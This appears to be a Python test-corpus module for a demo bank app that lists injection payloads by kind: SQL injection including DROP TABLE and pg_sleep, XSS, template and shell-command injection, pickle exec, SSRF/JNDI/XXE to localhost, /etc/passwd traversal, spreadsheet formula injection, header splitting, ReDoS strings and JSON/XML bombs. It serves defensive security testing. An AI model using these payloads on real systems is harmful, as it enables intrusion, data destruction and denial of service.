"""What attackers type, kind by kind: our own corpus, each with the mark by which it is found again.

None of it would do harm outside of a demo bank: what would be executed gives itself away by its time (`SLEEP_S`), by a
figure that it works out (`WORKED_OUT`), by a file, a table or a cookie of the mark's name, or by calling at `port`.
"""

from collections.abc import Iterator

MARK = "zq7xq"

# What is slept through, where a text is taken for a statement, and the time that no answer takes.
SLEEP_S, MOST_S = 20, 8

# 1787 * 1789: what a template would make of it.
SUM, WORKED_OUT = "1787*1789", "3196943"

# What a file of this machine would show, and what a statement or a page of ours would say of its own insides.
INSIDES = ("root:x:0", "Traceback", "psycopg", "sqlalchemy", 'syntax error at or near "', WORKED_OUT)


def payloads(port: int) -> dict[str, tuple[str, ...]]:
    """`port`: of this machine, where nobody should call."""
    here = f"127.0.0.1:{port}"
    return {
        "sql": (
            f"{MARK}' OR '1'='1",
            f"{MARK}' OR 1=1 --",
            f"{MARK}') OR ('a'='a",
            f'{MARK}" OR ""="',
            f"{MARK}'; DROP TABLE {MARK}; --",
            f"{MARK}'; CREATE TABLE {MARK}_owned (a int); --",
            f"{MARK}'; SELECT pg_sleep({SLEEP_S}); --",
            f"{MARK}' || (SELECT pg_sleep({SLEEP_S})) || '",
            f"{MARK}' AND 1=(SELECT 1 FROM pg_sleep({SLEEP_S})) AND '1'='1",
            f"1; SELECT pg_sleep({SLEEP_S}) /* {MARK} */",
            f"{MARK}' UNION SELECT NULL, version() --",
            f"{MARK}'; COPY (SELECT '') TO '/tmp/{MARK}_owned'; --",
            f"{MARK}\\'; SELECT pg_sleep({SLEEP_S}); --",
            f"{MARK}$$; SELECT pg_sleep({SLEEP_S}); $$",
            f"{MARK}%' ESCAPE '!",
            f"%{MARK}%_%",
            f"{MARK}:now %s %(now)s :1 $1 ?",
        ),
        "html": (
            f"<script>{MARK}(1)</script>",
            f'"><img src=x onerror={MARK}(1)>',
            f"'-{MARK}(1)-'",
            f"<svg/onload={MARK}(1)>",
            f"javascript:{MARK}(1)",
            f"</script><script>{MARK}(1)</script>",
            f"<iframe srcdoc='&lt;script&gt;{MARK}(1)&lt;/script&gt;'>",
            f"&lt;script&gt;{MARK}&lt;/script&gt;",
            f'<r><rPr><b/></rPr><t xml:space="preserve">{MARK}</t></r>',
        ),
        "template": (
            f"{MARK}{{{{{SUM}}}}}",
            f"{MARK}${{{SUM}}}",
            f"{MARK}#{{{SUM}}}",
            f"{MARK}<%= {SUM} %>",
            f"{MARK}{{% if 1 %}}{{{{ {SUM} }}}}{{% endif %}}",
            f"{MARK}#eval(1787 * 1789)#calc.pow(2, 9)",
            f"{MARK}{{0.__class__.__mro__}}{{self}}",
            f"{MARK}%(self)s%n%x%s",
            f"{MARK}`sleep {SLEEP_S}`$(sleep {SLEEP_S});sleep {SLEEP_S}|",
            f"{MARK}__import__('time').sleep({SLEEP_S})",
            f"c__builtin__\nexec\n(S'import time; time.sleep({SLEEP_S})' # {MARK}\ntR.",
        ),
        "address": (
            f"http://{here}/{MARK}",
            f"http://localhost:{port}/{MARK}",
            f"http://2130706433:{port}/{MARK}",
            f"http://0x7f000001:{port}/{MARK}",
            f"http://[::ffff:127.0.0.1]:{port}/{MARK}",
            f"https://bank.example@{here}/{MARK}",
            f"//{here}/{MARK}",
            f"gopher://{here}/_{MARK}",
            f"file:///etc/passwd?{MARK}",
            f"${{jndi:ldap://{here}/{MARK}}}",
            f'<!DOCTYPE a [<!ENTITY b SYSTEM "http://{here}/{MARK}">]><a>&b;</a>',
            f"{MARK}'; SELECT dblink_connect('host=127.0.0.1 port={port}'); --",
            f"\\\\{here}\\{MARK}",
        ),
        "path": (
            f"../../../../../../etc/passwd#{MARK}",
            "../../../../../../etc/passwd",
            f"..\\..\\..\\windows\\win.ini {MARK}",
            f"%2e%2e%2f%2e%2e%2fetc%2fpasswd {MARK}",
            f"/etc/passwd {MARK}",
            f"....//....//etc/passwd {MARK}",
            f"C:\\{MARK}",
            f"{MARK}/../{MARK};/..;/",
        ),
        "formula": (
            f"=cmd|' /C calc'!{MARK}",
            f"+{MARK}+1",
            f"-{MARK}-1",
            f"@SUM({MARK})",
            f'=HYPERLINK("http://{here}/{MARK}","a")',
            f'=WEBSERVICE("http://{here}/{MARK}")',
            f"＝{MARK}",
            f"＋{MARK}",
            f" ={MARK}",
            f"{MARK};=1+1",
            f'{MARK}",=1+1,"',
            f"{{={MARK}}}",
            f"\t={MARK}",
            f"\r={MARK}",
        ),
        "header": (
            f"{MARK}\r\nSet-Cookie: {MARK}=1",
            f"{MARK}\nX-{MARK}: 1",
            f"{MARK}\r\n\r\n<html>{MARK}",
            f"{MARK}%0d%0aSet-Cookie: {MARK}=1",
            f"{MARK}\u560d\u560aSet-Cookie: {MARK}=1",
            f'{MARK}"; filename="{MARK}.html',
        ),
        "control": (
            f"{MARK}\0",
            f"\0{MARK}",
            f"{MARK}\x08\x1b[2J",
            f"{MARK}\x7f",
            f"{MARK}\x85",
            f"{MARK}\u2028{MARK}",
            f"{MARK}\ufffe",
            f"{MARK}\ud800",
        ),
        "unicode": (
            f"{MARK}\u202egnp.exe",
            f"{MARK}\u2066admin\u2069",
            f"{MARK}\u200badmin",
            f"\ufeff{MARK}",
            f"{MARK}\U000e0041\U000e0042",
            f"{MARK}аdmin",  # the first letter Cyrillic
            f"{MARK}ﬁ①Ａ",  # of which NFKC makes other letters
            f"{MARK}e\u0301" + "\u0301" * 60,
            f"{MARK}İıſK",
            f"{MARK}👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
            f"{MARK}𠮷㐂",
        ),
        "long": (
            MARK + "a" * 300,
            MARK + "汉" * 5_000,
            MARK + "a" * 6_000,
        ),
        "regex": (
            "a" * 5_000 + f"!{MARK}",
            f"{MARK}@" + "a." * 2_500 + "@",
            f"{MARK} " + " " * 5_000 + "\u2800",
            "1" * 5_000 + f"x{MARK}",
            f"({MARK}+)+$",
            f"{MARK}[[[((((",
        ),
    }


def bombs() -> Iterator[tuple[str, bytes]]:
    """Bodies that are small on the wire and large, deep or doubtful to whoever reads them."""
    yield "deep", b'{"a":' * 20_000 + b"1" + b"}" * 20_000
    yield "deep list", b"[" * 100_000
    yield "wide", b"{" + b",".join(b'"a%d":1' % nth for nth in range(60_000)) + b"}"
    yield "a long number", b'{"a":' + b"9" * 500_000 + b"}"
    yield "a long exponent", b'{"a":1e999999999}'
    yield "one key often", b"{" + b",".join([b'"a":1'] * 60_000) + b"}"
    yield "escaped", b'{"a":"' + b"\\u0000" * 100_000 + b'"}'
    yield "a billion laughs", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "' + b"&b;" * 1_000 + b'">]><a>&a;</a>'
    yield "no text", b'{"a":"\xff\xfe\xed\xa0\x80"}'
